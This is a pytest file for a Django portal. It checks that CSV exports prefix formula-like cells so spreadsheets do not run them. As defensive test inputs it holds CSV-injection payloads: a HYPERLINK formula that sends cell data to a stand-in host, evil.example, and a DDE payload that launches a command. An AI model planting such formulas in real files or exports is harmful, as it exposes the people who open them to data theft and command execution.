"""CSV exports neutralise cells a spreadsheet would run as formulas (CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse

from portal.exports import safe_cell


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example","x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"],
)
def test_formula_starts_are_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Phường 1", "0912345678", "", 12, -3, 83.3])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value
    assert safe_cell(None) == ""


def test_stats_csv_neutralises_a_unit_named_like_a_formula(client, cast):
    cast.ward.name = '=HYPERLINK("http://evil.example/?"&A1,"Phường 1")'
    cast.ward.code = "+P1"
    cast.ward.save()
    client.force_login(cast.officer)
    response = client.get(reverse("onestop:stats_csv"), {"period": "year"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8")[1:])))
    ward_rows = [row for row in rows[1:] if "HYPERLINK" in row[2]]
    assert ward_rows
    for row in ward_rows:
        assert row[1] == "'+P1"
        assert row[2] == '\'=HYPERLINK("http://evil.example/?"&A1,"Phường 1")'
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
